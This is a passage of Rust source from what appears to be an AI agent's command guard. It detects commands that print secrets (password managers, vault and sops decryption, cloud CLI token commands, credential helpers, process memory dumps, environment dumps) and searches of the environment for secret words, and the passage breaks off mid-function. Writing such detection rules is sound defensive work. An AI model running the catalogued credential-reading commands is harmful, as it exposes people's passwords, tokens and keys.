//! Commands that are neither in a catalogue nor destructive, but touch what a person must
//! see first: credential stores and credential hunting, package installs (which run the
//! package's code), containers given the host, and host names and URLs computed at run
//! time (the value resolving or requesting them sends to the host, whichever program makes
//! the request: a routine network reader such as `git ls-remote` or a GET included). Soft (asked about in guard mode; in
//! auto mode the reviewer needs the person's words naming the action and its target — so
//! "install requests" does not cover `pip install reqeusts`) or, for credential stores,
//! hard. Consulted for commands the catalogues left unknown, and for searches.

use super::core::{Class, Cmd, Finding, JudgeCtx, Verdict, HOST_AT_RUN_TIME};
use crate::context::floor::{self, Access, PathClass};
use crate::context::paths;

use crate::analysis::effects::secrets::{expansions, Use};
use crate::analysis::effects::{secret_name, Carry, Effect};
use crate::analysis::shell::{Analysis, Origin, RedirectOp, SimpleCommand};

/// Words in a search pattern that mean "look for secrets".
const SECRET_WORDS: &[&str] = &[
    "token",
    "secret",
    "password",
    "passwd",
    "api_key",
    "apikey",
    "api-key",
    "credential",
    "private_key",
    "aws_access",
    "aws_secret",
    "bearer",
];

fn mentions_secret(text: &str) -> bool {
    let t = text.to_ascii_lowercase();
    SECRET_WORDS.iter().any(|w| t.contains(w))
}

fn soft(category: &'static str, reason: impl Into<String>) -> Option<Class> {
    Some(Class::Soft {
        category,
        reason: reason.into(),
    })
}

/// Secret stores and CLIs that print a secret, a token or credentials where the agent
/// reads them (checked against each tool's manual or docs): a hard floor. The reason says
/// what the tool does and what would pass instead.
fn secret_cli(prog: &str, args: &[String]) -> Option<String> {
    let pos: Vec<&str> = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .map(String::as_str)
        .collect();
    let first = pos.first().copied().unwrap_or("");
    let second = pos.get(1).copied().unwrap_or("");
    let flag = |f: &str| {
        args.iter()
            .any(|a| a == f || a.starts_with(&format!("{f}=")))
    };
    let line = |what: &str, instead: &str| format!("{what} where the agent reads it; {instead}");
    Some(match prog {
        // macOS keychain: `find-*-password -w|-g` prints the password; `dump-keychain -d`
        // and `export` dump secrets.
        "security"
            if (first.starts_with("find-") && first.ends_with("-password"))
                || matches!(first, "dump-keychain" | "export") =>
        {
            line(
                &format!("security {first} reads saved passwords or keys"),
                "programs that need a keychain item read it themselves",
            )
        }
        "secret-tool" if matches!(first, "lookup" | "search") => line(
            &format!("secret-tool {first} prints secrets from the keyring"),
            "programs that need a keyring item read it themselves",
        ),
        // `pass NAME` is `pass show NAME`.
        "pass" | "gopass"
            if matches!(first, "show" | "cat" | "otp" | "grep")
                || (!first.is_empty()
                    && !matches!(
                        first,
                        "ls" | "list" | "find" | "search" | "init" | "help" | "version" | "git"
                            | "insert" | "generate" | "rm" | "mv" | "cp" | "edit"
                    )) =>
        {
            line(
                &format!("{prog} prints a stored password"),
                "`pass ls` lists the entries without their secrets",
            )
        }
        "op" if matches!(first, "read" | "inject")
            || (first == "item" && second == "get")
            || (first == "document" && second == "get") =>
        {
            line(
                &format!("op {first} prints a 1Password secret"),
                "`op run -- CMD` hands secrets to a program without printing them",
            )
        }
        "bw" if matches!(first, "get" | "export") || (first == "list" && second == "items") => {
            line(
                &format!("bw {first} prints Bitwarden secrets"),
                "read the item in the Bitwarden app",
            )
        }
        "lpass" if matches!(first, "show" | "export") => line(
            &format!("lpass {first} prints LastPass secrets"),
            "read the entry in LastPass",
        ),
        "keepassxc-cli" if matches!(first, "show" | "export" | "clip") => line(
            &format!("keepassxc-cli {first} prints a KeePass entry"),
            "read the entry in KeePassXC",
        ),
        // `vault login` prints the token unless -no-print.
        "vault"
            if first == "read"
                || (first == "kv" && second == "get")
                || (first == "login" && !flag("-no-print"))
                || (first == "print" && second == "token")
                || (first == "token" && second == "create") =>
        {
            line(
                &format!("vault {first} {second} prints a secret or a token").replace("  ", " "),
                "`vault kv list` and `vault kv metadata get` show what is stored without its values",
            )
        }
        "sops" if first == "decrypt" || flag("-d") || flag("--decrypt") || first == "exec-env" || first == "exec-file" => {
            line(
                "sops decrypts secrets",
                "`sops exec-env FILE CMD` hands them to a program; `sops filestatus` says whether a file is encrypted",
            )
        }
        "ansible-vault" if matches!(first, "view" | "decrypt") => line(
            &format!("ansible-vault {first} decrypts secrets"),
            "ansible-playbook reads the vault itself",
        ),
        "age" | "rage" if flag("-d") || flag("--decrypt") => line(
            &format!("{prog} -d decrypts a file"),
            "decrypt it yourself outside the agent",
        ),
        "gpg" | "gpg2"
            if flag("-d")
                || flag("--decrypt")
                || flag("--export-secret-keys")
                || flag("--export-secret-subkeys")
                || flag("--armor") && flag("--export-secret-key") =>
        {
            line(
                &format!("{prog} decrypts a file or exports secret keys"),
                "decrypt it yourself outside the agent",
            )
        }
        "doppler"
            if first == "secrets"
                && !flag("--only-names")
                && !matches!(second, "set" | "delete" | "upload") =>
        {
            line(
                &format!("doppler secrets {second} prints secrets").replace("  ", " "),
                "`doppler secrets --only-names` lists the names; `doppler run -- CMD` hands the values to a program",
            )
        }
        // python-dotenv's CLI (`dotenv [-f FILE] list|get|set|unset|run`, python-dotenv(1)):
        // `list` "Display all the stored key/value", `get` "Retrieve the value for the given
        // key" — of the .env file.
        "dotenv" | "python-dotenv"
            if pos
                .iter()
                .find(|w| matches!(**w, "list" | "get" | "set" | "unset" | "run"))
                .is_some_and(|w| matches!(*w, "list" | "get")) =>
        {
            line(
                &format!("{prog} list/get prints the values of the .env file"),
                "`dotenv run -- CMD` hands them to a program",
            )
        }
        // teller (tellerops/teller's README): `show` prints the values, `env` in .env
        // format, `sh` as exports, `export`/`yaml`/`json` as documents.
        "teller" | "tlr" if matches!(first, "show" | "env" | "sh" | "export" | "yaml" | "json") => line(
            &format!("{prog} {first} prints the secrets it fetches"),
            "`teller run -- CMD` hands them to a program",
        ),
        // `mise env` prints the environment mise would set, the `[env]` of its config
        // files (secrets included) among it; `direnv export SHELL` prints what the
        // `.envrc` sets and `direnv dump` the whole environment.
        "mise" | "rtx" if first == "env" => line(
            &format!("{prog} env prints the variables its config sets"),
            "`mise exec -- CMD` hands them to a program",
        ),
        "direnv" if matches!(first, "export" | "dump") => line(
            &format!("direnv {first} prints the variables the .envrc sets"),
            "`direnv exec DIR CMD` hands them to a program",
        ),
        "infisical" if first == "secrets" || first == "export" => line(
            &format!("infisical {first} prints secrets"),
            "`infisical run -- CMD` hands them to a program",
        ),
        "chamber" if matches!(first, "read" | "export" | "env") => line(
            &format!("chamber {first} prints secrets"),
            "`chamber exec SERVICE -- CMD` hands them to a program",
        ),
        "pulumi"
            if (first == "config" && (flag("--show-secrets") || second == "get"))
                || (first == "stack" && second == "output" && flag("--show-secrets"))
                || (first == "stack" && second == "export" && flag("--show-secrets")) =>
        {
            line(
                "pulumi prints decrypted config or stack secrets",
                "`pulumi config` without --show-secrets prints [secret] in their place",
            )
        }
        "heroku"
            if matches!(first, "auth:token" | "config" | "config:get" | "authorizations:create" | "authorizations:info")
                || first.starts_with("pg:credentials") =>
        {
            line(
                &format!("heroku {first} prints a token or config vars (commonly secrets)"),
                "the heroku CLI uses its login itself; `heroku config --json | jq keys` is still the values — ask the person",
            )
        }
        "fly" | "flyctl" if (first == "auth" && second == "token") || (first == "tokens" && matches!(second, "create" | "deploy" | "org")) || (first == "ssh" && second == "issue") => {
            line(
                &format!("{prog} {first} {second} prints a Fly.io token"),
                "flyctl uses its login itself",
            )
        }
        "glab" if (first == "auth" && second == "status" && (flag("-t") || flag("--show-token"))) || first == "token" => {
            line(
                "glab prints the GitLab token",
                "glab's own commands use it without printing it",
            )
        }
        // coder(1) `login token`: "Print the current session token".
        "coder" if first == "login" && second == "token" => line(
            "coder login token prints the Coder session token",
            "coder uses it itself",
        ),
        "doctl" if first == "auth" && second == "token" => line(
            "doctl auth token prints the DigitalOcean token",
            "doctl uses it itself",
        ),
        "railway" if matches!(first, "variables" | "vars") => line(
            "railway variables prints the service's variables (commonly secrets)",
            "`railway run -- CMD` hands them to a program",
        ),
        "vercel" | "vc" if first == "env" && second == "pull" => line(
            "vercel env pull writes the project's secrets into a file the agent can read",
            "`vercel env ls` lists the names",
        ),
        "netlify" if matches!(first, "env:get" | "env:list") && (first == "env:get" || flag("--plain") || flag("--json")) => line(
            &format!("netlify {first} prints environment values (commonly secrets)"),
            "`netlify env:list` without --plain/--json masks them",
        ),
        "firebase" if matches!(first, "login:ci" | "functions:config:get" | "functions:secrets:access") => line(
            &format!("firebase {first} prints a token or secret config"),
            "firebase uses its login itself",
        ),
        "wrangler" if first == "secret" && second == "get" => line(
            "wrangler secret get prints a Worker secret",
            "`wrangler secret list` lists the names",
        ),
        "npm" | "pnpm" | "yarn" if first == "token" && second == "create" => line(
            &format!("{prog} token create prints a new registry token"),
            "create tokens yourself outside the agent",
        ),
        "git"
            if first == "credential"
                || first.starts_with("credential-")
                || (first == "config" && args.iter().any(|a| a.contains("credential") && a.contains("token"))) =>
        {
            line(
                &format!("git {first} prints stored credentials"),
                "git uses its credential helper itself on fetch and push",
            )
        }
        // Cloud and platform CLIs whose documented output is a token, a key or the
        // environment a deployment runs with (checked against each CLI's reference, search
        // tool: IBM Cloud CLI `iam oauth-tokens`, Argo CD `account generate-token` and
        // `proj role create-token`, Databricks CLI `auth token`, doctl `registry
        // docker-config`, Cloud Foundry `cf env` (VCAP_SERVICES credentials), Supabase CLI
        // `status` and `projects api-keys`, Stripe CLI `config --list`, glab `variable
        // get|export`, Vault `token lookup` (its `id` is the token), Consul `kv
        // get|export`, etcdctl `get` (values unless --keys-only), rclone `config
        // show|dump` and `reveal`, s3cmd `--dump-config`, aws-vault `export`, `exec -- env`
        // and `login --stdout` (a sign-in URL carrying a token), dotenvx `decrypt`, `get`
        // and `keypair`, direnv `export`/`dump`, Composer `config` of an auth key, and
        // docker-credential-helpers' `get`; `list` prints server URLs and user names only).
        "ibmcloud" if first == "iam" && matches!(second, "oauth-tokens" | "oauth-token") => line(
            "ibmcloud iam oauth-tokens prints an IAM access token",
            "ibmcloud uses its login itself",
        ),
        "argocd"
            if (first == "account" && second == "generate-token")
                || (first == "proj" && second == "role" && pos.get(2) == Some(&"create-token")) =>
        {
            line(
                &format!("argocd {first} {second} prints a new Argo CD token"),
                "create tokens yourself outside the agent",
            )
        }
        "databricks" if first == "auth" && second == "token" => line(
            "databricks auth token prints an access token",
            "the Databricks CLI and SDKs use it without printing it",
        ),
        "doctl" if first == "registry" && second == "docker-config" => line(
            "doctl registry docker-config prints a Docker config holding a registry token",
            "`doctl registry login` stores it for Docker without printing it",
        ),
        "cf" | "cf7" | "cf8" if first == "env" => line(
            "cf env prints the app's environment, its service credentials (VCAP_SERVICES) among it",
            "`cf services` lists the bound services",
        ),
        "supabase"
            if first == "status" || (first == "projects" && second == "api-keys") =>
        {
            line(
                &format!("supabase {first} prints the project's API keys and JWT secret"),
                "the Supabase CLI uses them itself",
            )
        }
        "stripe" if first == "config" && flag("--list") => line(
            "stripe config --list prints the Stripe API keys",
            "the Stripe CLI uses them itself",
        ),
        "glab" if first == "variable" && matches!(second, "get" | "export") => line(
            &format!("glab variable {second} prints CI/CD variable values (commonly secrets)"),
            "`glab variable list` lists the names",
        ),
        "vault" if first == "token" && second == "lookup" => line(
            "vault token lookup prints the token (its id) and its details",
            "`vault token capabilities PATH` says what it may do",
        ),
        "consul" if first == "kv" && (second == "export" || (second == "get" && !flag("-keys"))) => line(
            &format!("consul kv {second} prints stored values, where services keep passwords and keys"),
            "`consul kv get -keys` lists the keys",
        ),
        "etcdctl" if first == "get" && !flag("--keys-only") => line(
            "etcdctl get prints stored values (a cluster's Secrets among them)",
            "`etcdctl get --keys-only` lists the keys",
        ),
        "rclone" if (first == "config" && matches!(second, "show" | "dump")) || first == "reveal" => line(
            &format!("rclone {first} {second} prints remotes' tokens and keys").replace("  ", " "),
            "`rclone config redacted` and `rclone listremotes` show the remotes without them",
        ),
        "s3cmd" if flag("--dump-config") => line(
            "s3cmd --dump-config prints the access and secret keys",
            "s3cmd uses them itself",
        ),
        "aws-vault"
            if first == "export"
                || (first == "login" && (flag("--stdout") || flag("-s")))
                || (first == "exec" && execs_env_dump(args)) =>
        {
            line(
                &format!("aws-vault {first} prints AWS credentials"),
                "`aws-vault exec PROFILE -- CMD` hands them to a program without printing them",
            )
        }
        "dotenvx" if matches!(first, "decrypt" | "get" | "keypair") => line(
            &format!("dotenvx {first} prints decrypted environment values or private keys"),
            "`dotenvx run -- CMD` hands them to a program",
        ),
        "direnv" if matches!(first, "export" | "dump") => line(
            &format!("direnv {first} prints the environment .envrc loads (commonly secrets)"),
            "`direnv exec DIR CMD` hands it to a program",
        ),
        "composer"
            if first == "config"
                && pos.len() == 2
                && [
                    "github-oauth",
                    "gitlab-oauth",
                    "gitlab-token",
                    "bitbucket-oauth",
                    "http-basic",
                    "bearer",
                ]
                .iter()
                .any(|k| second == *k || second.starts_with(&format!("{k}."))) =>
        {
            line(
                &format!("composer config {second} prints a registry credential"),
                "Composer reads it itself when it installs",
            )
        }
        // Credential helpers speak a protocol on stdin and stdout: `get` answers with the
        // secret (docker-credential-helpers: `{"ServerURL", "Username", "Secret"}` from
        // pass, osxkeychain, secretservice, wincred, desktop, ecr-login, gcloud/gcr, acr-env
        // alike; git's helpers, gitcredentials(7): `username=` and `password=` lines from
        // store, cache, libsecret, osxkeychain, manager). docker-credential-helpers' `list`
        // prints server URLs and user names only (each helper's `List`), and stays unknown.
        p if p.starts_with("docker-credential-") && first == "get" => line(
            &format!("{p} get prints a registry password"),
            "Docker asks the helper itself",
        ),
        p if p.starts_with("git-credential-") && first == "get" => line(
            &format!("{p} get prints a stored git password or token"),
            "git asks the helper itself on fetch and push",
        ),
        "heroku" if first == "run" && is_env_dump(second) => line(
            "heroku run prints the app's environment (its config vars, commonly secrets)",
            "`heroku run CMD` hands them to a program without printing them",
        ),
        "fly" | "flyctl"
            if first == "ssh"
                && second == "console"
                && option_word(args, &["-C", "--command"]).is_some_and(|c| {
                    is_env_dump(c.split_whitespace().next().unwrap_or(""))
                }) =>
        {
            line(
                &format!("{prog} ssh console -C prints the machine's environment (its secrets)"),
                "`fly secrets list` lists the names",
            )
        }
        // `rails credentials:show` decrypts config/credentials.yml.enc with the master key
        // and prints it (Rails guides, "Security: Custom Credentials").
        "rails" if matches!(first, "credentials:show" | "secrets:show") => line(
            &format!("rails {first} prints the decrypted credentials"),
            "the application reads them itself through Rails.application.credentials",
        ),
        // `dotnet user-secrets list` prints each secret's name and value (Microsoft Learn,
        // "Safe storage of app secrets in development").
        "dotnet" if first == "user-secrets" && second == "list" => line(
            "dotnet user-secrets list prints the project's secrets with their values",
            "the application reads them itself through its configuration",
        ),
        "gh" if first == "auth" && second == "token" => line(
            "gh auth token prints the GitHub token",
            "gh's own commands use it without printing it",
        ),
        // `bundle config` (and `list`) prints every setting with its value and where it was
        // set, `BUNDLE_<HOST>` credentials from the environment and the config files
        // included: a token alone is printed whole, only `user:password` has its password
        // hidden (bundler 2.3 checked); `get NAME` of a gem server prints its credentials.
        "bundle" | "bundler"
            if first == "config"
                && (pos.len() == 1
                    || second == "list"
                    || (pos.len() == 2 && bundler_host_key(second))
                    || (second == "get" && pos.get(2).is_some_and(|k| bundler_host_key(k)))) =>
        {
            line(
                "bundle config prints Bundler's settings with the gem servers' credentials",
                "`bundle config get path` prints one plain setting; Bundler uses the credentials itself",
            )
        }
        // Ansible's `setup` module (and `gather_facts`) returns the host's facts, its
        // environment among them (`ansible_env`: every variable of the connection's shell);
        // `ansible-inventory --list|--host` prints the inventory's variables, where
        // `ansible_password` and `ansible_become_password` are kept (vault-encrypted ones
        // decrypted when a vault password is given). `--graph` prints names.
        "ansible" if ansible_module(args).is_some_and(|m| {
            matches!(
                m.rsplit('.').next().unwrap_or(m),
                "setup" | "gather_facts"
            )
        }) => line(
            "ansible -m setup prints the host's facts, its environment (ansible_env) among them",
            "`ansible HOST -m setup -a 'filter=ansible_distribution*'` prints the facts named; `ansible HOST -m ping` checks the connection",
        ),
        "ansible"
            if ansible_module(args).is_some_and(|m| {
                matches!(m.rsplit('.').next().unwrap_or(m), "command" | "shell" | "raw")
            }) && option_word(args, &["-a", "--args"])
                .filter(|a| a.split_whitespace().count() == 1)
                .is_some_and(|a| is_env_dump(a.trim())) =>
        {
            line(
                "ansible runs a command that prints the host's environment",
                "name the variable you need (`printenv HOME`)",
            )
        }
        "ansible-inventory" if flag("--list") || flag("--host") => line(
            "ansible-inventory prints the inventory's variables, connection and become passwords among them",
            "`ansible-inventory --graph` prints the hosts and groups",
        ),
        // The kernel keyring (keyutils `keyctl(1)`, `keyctl_read(3)`: `print`, `pipe` and
        // `read` write a key's payload out, as it is stored for a `user` key); `show`,
        // `list` and `describe` print ids and descriptions.
        "keyctl" if matches!(first, "print" | "pipe" | "read") => line(
            &format!("keyctl {first} prints a key's payload from the kernel keyring"),
            "`keyctl show` lists the keys without their payloads",
        ),
        // KWallet: `kwallet-query -r|--read-password ENTRY WALLET` prints the entry's
        // password (KDE `kwallet-query --help`; `-l` lists the entries); `kwalletcli -f
        // FOLDER -e ENTRY` prints it unless `-p`/`-P` write one (kwalletcli(1): "Default
        // mode of operation … is to read the password … and print it").
        "kwallet-query" if flag("-r") || flag("--read-password") => line(
            "kwallet-query -r prints a password from the KDE wallet",
            "`kwallet-query -l WALLET` lists the entries",
        ),
        "kwalletcli" if !flag("-p") && !flag("-P") && !flag("-h") && !flag("-V") => line(
            "kwalletcli prints a password from the KDE wallet",
            "programs that need a wallet entry read it themselves",
        ),
        // saml2aws (Versent, `saml2aws script --help`): prints `export
        // AWS_ACCESS_KEY_ID=… AWS_SECRET_ACCESS_KEY=… AWS_SESSION_TOKEN=…` for a shell to
        // eval; `exec` hands them to a command.
        "saml2aws" if first == "script" || (first == "exec" && execs_env_dump(args)) => line(
            &format!("saml2aws {first} prints the AWS credentials of the SAML session"),
            "`saml2aws exec -- CMD` hands them to a program without printing them",
        ),
        // A CLI's stored setting whose name is a credential's (`glab config get token`,
        // `tea config get token`, `… config get-value api_key`): the value is the
        // credential, whichever CLI keeps it (the names judged as the environment's are,
        // [`secret_name`]; `glab config get editor` stays a setting).
        _ if first == "config"
            && config_key(&pos, flag("--get") || flag("--get-all"))
                .is_some_and(|k| secret_name(k.rsplit(['.', ':', '/']).next().unwrap_or(k))) =>
        {
            let key = config_key(&pos, true).unwrap_or("");
            line(
                &format!("{prog} config prints the stored credential {key}"),
                &format!("{prog} uses it itself without printing it"),
            )
        }
        // Another process's memory holds its secrets (the environment it was started
        // with, tokens it read): a core image or checkpoint of it is a credential read
        // (checked: a `gcore` core of a process started with `SECRET_TOKEN=…` shows the
        // value to `strings`). gdb's `gcore(1)` script; CRIU `criu dump|pre-dump` (images
        // of the process tree's memory, criu(8)); Sysinternals ProcDump for Linux
        // (`procdump [-p] PID`); gdb's `generate-core-file`/`gcore` and LLDB's `process
        // save-core` given as commands (`-ex`, `-batch`, `-o`, `--one-line`); gdb's
        // `dump memory`.
        "gcore" | "procdump" if !first.is_empty() || flag("-p") => line(
            &format!("{prog} writes another process's memory (its secrets with it) into a core file"),
            "ask the person to take the dump",
        ),
        "criu" | "criu-ns" if matches!(first, "dump" | "pre-dump") => line(
            &format!("criu {first} writes a process tree's memory (its secrets with it) into images"),
            "ask the person to checkpoint it",
        ),
        "gdb" | "gdb-multiarch" | "lldb" | "rust-gdb" | "rust-lldb"
            if debugger_commands(args).iter().any(|c| dumps_core(c)) =>
        {
            line(
                &format!("{prog} writes a process's memory (its secrets with it) into a file"),
                "`gdb -p PID -batch -ex 'thread apply all bt'` prints where it is",
            )
        }
        "gcloud" if first == "auth" && matches!(second, "print-access-token" | "print-identity-token") => line(
            &format!("gcloud auth {second} prints a token"),
            "gcloud and the client libraries use your login without printing it",
        ),
        "nu" | "xonsh" | "elvish" | "pwsh" | "powershell" | "fish" | "csh" | "tcsh"
            if shell_code(prog, args).is_some_and(|c| shell_env_dump(prog, &c).is_some()) =>
        {
            let what = shell_code(prog, args)
                .and_then(|c| shell_env_dump(prog, &c))
                .unwrap_or_default();
            line(
                &format!("{prog} code prints {what}"),
                "name the variable you need (`printenv HOME`) or list the names only",
            )
        }
        _ => return None,
    })
}

/// The setting a `PROG config get KEY` (or `config get-value KEY`, or with `get_option`
/// `config --get KEY`) prints.
fn config_key<'a>(pos: &[&'a str], get_option: bool) -> Option<&'a str> {
    match pos {
        [_, "get" | "get-value", key, ..] => Some(key),
        [_, key, ..] if get_option => Some(key),
        _ => None,
    }
}

/// The commands a debugger command line runs (gdb 13 `gdb --help`: `-ex`/`--ex`,
/// `-eval-command`/`--eval-command`, `-iex`/`--init-eval-command`; LLDB 15 `lldb
/// --help`: `-o`/`--one-line`, `-O`/`--one-line-before-file`, `-k`/`--one-line-on-crash`).
fn debugger_commands(args: &[String]) -> Vec<&str> {
    const TAKES: &[&str] = &[
        "-ex",
        "--ex",
        "-eval-command",
        "--eval-command",
        "-iex",
        "--iex",
        "-init-eval-command",
        "--init-eval-command",
        "-o",
        "--one-line",
        "-O",
        "--one-line-before-file",
        "-k",
        "--one-line-on-crash",
    ];
    let mut out = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if TAKES.contains(&a.as_str()) {
            if let Some(v) = it.next() {
                out.push(v.as_str());
            }
        } else if let Some((o, v)) = a.split_once('=') {
            if TAKES.contains(&o) {
                out.push(v);
            }
        }
    }
    out
}

/// A debugger command that writes the debuggee's memory out: gdb's `generate-core-file`
/// (any unique prefix from `gen`) and its alias `gcore`, `dump`/`append` of memory or a
/// value; LLDB's `process save-core` (`pro save-core`, `save-core`).
fn dumps_core(command: &str) -> bool {
    let c = command.trim().to_ascii_lowercase();
    let first = c.split_whitespace().next().unwrap_or("");
    (first.len() >= 3 && "generate-core-file".starts_with(first))
        || first == "gcore"
        || matches!(first, "dump" | "append")
        || c.contains("save-core")
}

/// A debugger attached to a running process (gdb `-p PID`/`--pid=PID`/`-pid`, `gdb
/// PROG PID`; LLDB `-p`/`--attach-pid`, `-n`/`--attach-name`, `-w`/`--wait-for`): it reads
/// the process's memory, its secrets with it.
fn attaches(prog: &str, args: &[String]) -> bool {
    let lldb = prog.contains("lldb");
    let opts: &[&str] = if lldb {
        &[
            "-p",
            "--attach-pid",
            "-n",
            "--attach-name",
            "-w",
            "--wait-for",
        ]
    } else {
        &["-p", "--pid", "-pid", "--p"]
    };
    if args.iter().any(|a| {
        opts.contains(&a.as_str())
            || opts
                .iter()
                .any(|o| o.starts_with("--") && a.starts_with(&format!("{o}=")))
    }) {
        return true;
    }
    // `gdb PROG PID`: a second operand that is a number is a process to attach to.
    !lldb
        && args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .nth(1)
            .is_some_and(|a| !a.is_empty() && a.bytes().all(|b| b.is_ascii_digit()))
}

/// Code handed to a shell whose language the command floor does not parse as its own
/// (Nushell, xonsh, Elvish, PowerShell) or whose builtins differ from the POSIX shell's
/// (fish, csh), that prints the environment: Nushell's `$env` (nu 0.9x `$env` is a record
/// of every variable; `$env.NAME` one); xonsh's `${...}` (the environment mapping, xonsh
/// tutorial "Environment Variables"), `__xonsh__.env`, `$NAME`/`${'NAME'}`; Elvish's
/// `$E:NAME`; PowerShell's `env:` drive (`Get-ChildItem env:`, `ls env:`, `dir env:`,
/// `gci env:`), `$env:NAME`, `[Environment]::GetEnvironmentVariables()`; fish's `set`
/// with scope or export options and no name (fish 3 `set --help`: "If set is called with
/// no arguments, the names and values of all shell variables are printed"; `-x` those
/// exported; `-n` names only); csh's `setenv` alone. `None` when it prints no secret.
fn shell_env_dump(prog: &str, code: &str) -> Option<String> {
    let secret = |name: &str| secret_name(name).then(|| format!("the secret variable {name}"));
    let var = |rest: &str| -> String {
        rest.chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect()
    };
    match prog {
        "nu" => {
            let mut from = 0;
            while let Some(i) = code[from..].find("$env").map(|i| from + i) {
                from = i + 4;
                let rest = &code[from..];
                if rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
                    continue; // `$environment`: another variable
                }
                match rest.strip_prefix('.') {
                    Some(r) if !var(r).is_empty() => {
                        if let Some(s) = secret(&var(r)) {
                            return Some(s);
                        }
                    }
                    _ => return Some("every variable in the environment ($env)".into()),
                }
            }
            None
        }
        "xonsh" => {
            if code.contains("${...}")
                || code.contains("__xonsh__.env")
                || code.contains("os.environ")
            {
                return Some("every variable in the environment".into());
            }
            dollar_names(code).into_iter().find_map(secret).or_else(|| {
                code.split("${")
                    .skip(1)
                    .map(|r| var(r.trim_start_matches(['\'', '"'])))
                    .find_map(|n| secret(&n))
            })
        }
        "elvish" => code.split("$E:").skip(1).map(var).find_map(|n| secret(&n)),
        "pwsh" | "powershell" => {
            let c = code.to_ascii_lowercase();
            if c.contains("env:") && !c.contains("$env:") || c.contains("getenvironmentvariables") {
                return Some("every variable in the environment (the env: drive)".into());
            }
            c.split("$env:").skip(1).map(var).find_map(|n| secret(&n))
        }
        "fish" | "csh" | "tcsh" => code
            .split([';', '\n', '|', '&'])
            .map(str::split_whitespace)
            .find_map(|mut w| {
                let word = w.next()?;
                let rest: Vec<&str> = w.collect();
                let options_only = rest.iter().all(|a| a.starts_with('-'));
                let names = rest.iter().any(|a| {
                    matches!(*a, "-n" | "--names" | "-e" | "--erase" | "-q" | "--query")
                        || (!a.starts_with("--")
                            && (a.contains('n') || a.contains('e') || a.contains('q')))
                });
                match word {
                    "set" if prog == "fish" && !rest.is_empty() && options_only && !names => {
                        Some("every exported or scoped variable (fish `set` with no name)".into())
                    }
                    "setenv" if prog != "fish" && rest.is_empty() => {
                        Some("every variable in the environment (csh `setenv`)".into())
                    }
                    _ => None,
                }
            }),
        _ => None,
    }
}

/// The code a shell's command line hands it (`-c CODE`, `--command CODE`, PowerShell's
/// `-Command`/`-c`, `-Command:`), joined.
fn shell_code(prog: &str, args: &[String]) -> Option<String> {
    let mut out = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let l = a.to_ascii_lowercase();
        let code = match prog {
            "pwsh" | "powershell" => {
                let n = l.trim_start_matches(['-', '/']);
                a.starts_with(['-', '/'])
                    && (n == "c" || (n.len() >= 2 && "command".starts_with(n)))
            }
            _ => {
                matches!(l.as_str(), "-c" | "--command" | "--commands")
                    || (a.starts_with('-')
                        && !a.starts_with("--")
                        && a.ends_with('c')
                        && a.len() <= 4)
            }
        };
        if code {
            if let Some(v) = it.next() {
                out.push(v.clone());
            }
        } else if let Some(v) = a.strip_prefix("--command=") {
            out.push(v.to_string());
        }
    }
    (!out.is_empty()).then(|| out.join("\n"))
}

/// A Bundler setting name for a gem server (`rubygems.pkg.github.com`,
/// `BUNDLE_GEMS__EXAMPLE__COM`): its value is the server's credentials.
fn bundler_host_key(k: &str) -> bool {
    let k = k.to_ascii_lowercase();
    let k = k.strip_prefix("bundle_").unwrap_or(&k);
    (k.contains('.') || k.contains("__"))
        && ![
            "build.", "build__", "local.", "local__", "mirror.", "mirror__",
        ]
        .iter()
        .any(|p| k.starts_with(p))
}

/// The module an ad-hoc `ansible` call runs (`-m NAME`, `--module-name NAME`); `command`
/// when none is given.
fn ansible_module(args: &[String]) -> Option<&str> {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if a == "-m" || a == "--module-name" {
            return it.next().map(String::as_str);
        }
        if let Some(v) = a.strip_prefix("--module-name=") {
            return Some(v);
        }
        if let Some(v) = a.strip_prefix("-m").filter(|v| !v.is_empty()) {
            return Some(v);
        }
    }
    Some("command")
}

/// A program that prints the whole environment (or one variable of it) when run.
fn is_env_dump(word: &str) -> bool {
    matches!(
        word.rsplit('/').next().unwrap_or(word),
        "env" | "printenv" | "set" | "export" | "declare"
    )
}

/// The value of the first of `names` (`-C VALUE`, `--command=VALUE`).
fn option_word<'a>(args: &'a [String], names: &[&str]) -> Option<&'a str> {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        for n in names {
            if a == n {
                return it.next().map(String::as_str);
            }
            if let Some(v) = a.strip_prefix(n).and_then(|v| v.strip_prefix('=')) {
                return Some(v);
            }
        }
    }
    None
}

/// `aws-vault exec PROFILE [--] CMD …` whose command prints the environment it is given.
fn execs_env_dump(args: &[String]) -> bool {
    let cmd = match args.iter().position(|a| a == "--") {
        Some(i) => args.get(i + 1),
        None => args.iter().filter(|a| !a.starts_with('-')).nth(2),
    };
    cmd.is_some_and(|c| is_env_dump(c))
}

/// Classify a command the catalogues did not know.
pub(super) fn classify(cmd: &Cmd, prev: Option<&[String]>) -> Option<Class> {
    let prog = cmd.program().rsplit('/').next().unwrap_or("");
    let args = cmd.args();
    // A lone `--version` or `--help` prints the program's own text (the routine
    // catalogue's rule for every program): nothing here is installed, fetched or printed.
    if matches!(args, [a] if a == "--version" || a == "--help") {
        return None;
    }
    let first = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .map(String::as_str);
    if let Some(reason) = secret_cli(prog, args) {
        return Some(Class::Hard {
            category: "credential",
            reason,
        });
    }
    match prog {
        // Hunting for secrets in the environment printed just before (`env | grep token`).
        "grep" | "egrep" | "rg" | "ag" | "ack"
            if args.iter().any(|a| mentions_secret(a))
                && prev.is_some_and(|p| {
                    p.first().is_some_and(|c| {
                        matches!(
                            c.as_str(),
                            "env" | "printenv" | "set" | "export" | "declare"
                        )
                    })
                }) =>
        {
            soft(
                "credentials",
                format!("{prog} searches the environment for secrets"),
            )
        }
        // Installing runs the package's own code (install scripts, entry points).
        "pip" | "pip3" | "pipx" | "uv" | "poetry" | "pdm" | "conda" | "gem" | "cargo" | "go"
        | "npm" | "pnpm" | "yarn" | "bun" | "brew" | "apt" | "apt-get" | "dnf" | "yum" | "apk"
        | "composer"
            if first.is_some_and(|s| {
                matches!(
                    s,
                    "install" | "i" | "add" | "get" | "require" | "run" | "dlx" | "exec" | "tool"
                )
